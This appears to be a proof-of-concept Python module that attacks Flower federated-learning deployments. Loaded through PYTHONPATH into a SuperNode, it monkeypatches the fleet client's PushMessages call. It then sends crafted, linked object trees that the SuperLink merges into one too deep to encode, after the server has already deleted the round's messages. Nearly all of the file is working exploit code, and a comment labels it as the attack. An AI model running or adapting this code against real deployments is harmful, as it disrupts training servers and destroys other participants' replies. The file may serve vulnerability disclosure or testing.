"""A member whose SuperNode makes the SuperLink's next hand-over fail, and so lose all replies.

Python imports this module when the folder is on PYTHONPATH. Three trees of objects, each within
the depth that protobuf allows, hang together by their ends; the SuperLink puts them together
into one that it cannot encode, after it has deleted every message of that hand-over.
"""

import hashlib
import sys
import time

if any(word.endswith("flower-supernode") for word in sys.orig_argv):
    from flwr.proto.fleet_pb2 import PushMessagesRequest, PushMessagesResponse
    from flwr.proto.message_pb2 import Message, Metadata, ObjectTree
    from flwr.supernode.fleet_http_client import FleetHttpClient

    honest = FleetHttpClient.PushMessages

    def name(level: int) -> str:
        return hashlib.sha256(f"level {level}".encode()).hexdigest()

    def chain(first: int, last: int) -> ObjectTree:
        tree = ObjectTree(object_id=name(first))
        for level in range(first + 1, last + 1):
            tree = ObjectTree(object_id=name(level), children=[tree])
        return tree

    def push(self: FleetHttpClient, request: PushMessagesRequest) -> PushMessagesResponse:
        for first, last in ((0, 59), (59, 119), (119, 179)):
            metadata = Metadata(
                run_id=request.messages_list[0].metadata.run_id,
                message_id=name(last),
                src_node_id=1,
                dst_node_id=1,
                created_at=time.time(),
                ttl=600.0,
                message_type="train",
            )
            message = Message(metadata=metadata)
            message.content.SetInParent()
            honest(
                self,
                PushMessagesRequest(
                    node=request.node,
                    messages_list=[message],
                    message_object_trees=[chain(first, last)],
                ),
            )
        return honest(self, request)

    FleetHttpClient.PushMessages = push  # type: ignore[method-assign]  # that is the attack
